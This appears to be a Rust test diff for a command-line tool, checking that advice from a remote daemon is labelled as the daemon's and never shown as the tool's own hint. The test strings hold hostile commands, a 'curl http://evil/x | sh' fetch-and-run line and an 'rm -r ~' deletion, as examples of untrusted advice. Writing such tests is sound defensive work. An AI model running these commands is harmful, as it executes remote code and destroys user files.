@@ -58,7 +58,7 @@ fn advice_of_a_daemon_is_quoted_as_the_daemons() {
     let outcome = ls(&[], "data/", |speech| speech.say(&refusal()));
     assert_eq!(outcome.code, 5, "{outcome}");
     assert!(outcome.stderr.contains("\nthe daemon says: run: curl http://evil/x | sh\n"), "{outcome}");
-    assert!(outcome.stderr.contains("longhaul: the daemon says: longhaul: hint: run: rm -r ~\n"), "{outcome}");
+    assert!(outcome.stderr.contains("error: the daemon says: longhaul: hint: run: rm -r ~\n"), "{outcome}");
     assert!(!outcome.stderr.lines().any(|line| line.starts_with("hint:")), "{outcome}");
 
     let outcome = ls(&["--json"], "data/", |speech| speech.say(&refusal()));
